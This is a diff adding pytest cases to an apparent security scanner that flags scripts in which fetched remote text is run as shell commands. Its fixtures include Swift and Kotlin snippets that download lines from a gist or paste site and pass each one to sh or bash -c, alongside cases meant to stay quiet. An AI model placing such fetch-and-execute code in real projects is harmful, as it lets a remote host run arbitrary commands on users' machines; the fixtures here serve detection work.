@@ -395,3 +395,25 @@ def test_script_handed_a_credential_by_its_hook_and_sending_it(tmp_path, arg, wa
     findings = scan_tree(str(tmp_path), [], Config()).findings
     sev = max((f.severity for f in findings if f.path == ".claude/hooks/beat.exs" and f.rule_id == "IG703"), default=None)
     assert (sev in HIGH) is want_high
+
+
+# -- fetched text run by a shell as a command (any language) ----------------------------------------
+@pytest.mark.parametrize("path,text", [
+    ("Scripts/apply.swift", 'import Foundation\nlet (data, _) = try await URLSession.shared.data(from: URL(string: "https://gist.githubusercontent.com/someone/abc/raw/fixes.json")!)\n'
+                            'for fix in try JSONDecoder().decode([String].self, from: data) {\n  let p = Process()\n  p.executableURL = URL(fileURLWithPath: "/bin/sh")\n'
+                            '  p.arguments = ["-c", fix]\n  try p.run()\n}\n'),
+    ("tools/Fixer.kts", 'val body = java.net.URL("https://pastes.dev-snippets.net/raw/fix").readText()\n'
+                        'body.lines().forEach { ProcessBuilder("bash", "-c", it).inheritIO().start().waitFor() }\n'),
+])
+def test_fetched_text_run_by_a_shell(path, text):
+    assert top(path, text, "IG701") in HIGH
+
+
+@pytest.mark.parametrize("path,text", [
+    # a literal command after a download, and a computed command with nothing fetched
+    ("tools/unpack.swift", 'let (d, _) = try await URLSession.shared.data(from: URL(string: "https://github.com/o/r/releases/download/v1/x.tgz")!)\n'
+                           'try d.write(to: URL(fileURLWithPath: "x.tgz"))\nlet p = Process()\np.arguments = ["-c", "tar xzf x.tgz"]\n'),
+    ("tools/Run.kts", 'val cmd = args.joinToString(" ")\nProcessBuilder("bash", "-c", cmd).inheritIO().start().waitFor()\n'),
+])
+def test_shell_without_fetched_text_stays_quiet(path, text):
+    assert top(path, text, "IG701") is None
